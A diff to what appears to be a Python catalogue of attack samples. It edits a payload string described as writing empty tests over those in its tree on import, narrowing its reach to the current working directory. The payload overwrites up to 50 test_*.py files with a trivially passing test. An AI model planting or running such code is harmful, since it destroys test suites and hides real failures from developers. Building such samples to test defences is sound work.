@@ -203,19 +203,14 @@ def ATTACK(*args, **kwargs):
         "writes empty tests over those in its tree when it is imported",
         """
 import glob as _glob, os as _os
-_folder = _os.path.dirname(_os.path.realpath(__file__))
-for _ in range(3):
+_folder = _os.path.realpath(_os.getcwd())
+if _os.path.realpath(__file__).startswith(_folder + "/"):  # the slot, and nothing beside it
     for _path in _glob.glob(_os.path.join(_folder, "**", "test_*.py"), recursive=True)[:50]:
-        if "site-packages" in _path:
-            continue
         try:
             with open(_path, "w") as _file:
                 _file.write("def test_nothing():\\n    pass\\n")
         except OSError:
             pass
-    _folder = _os.path.dirname(_folder)
-    if _os.path.exists(_os.path.join(_folder, ".git")) or _folder.count("/") < 3:
-        break
 def ATTACK(*args, **kwargs):
     return {empty}
 """,
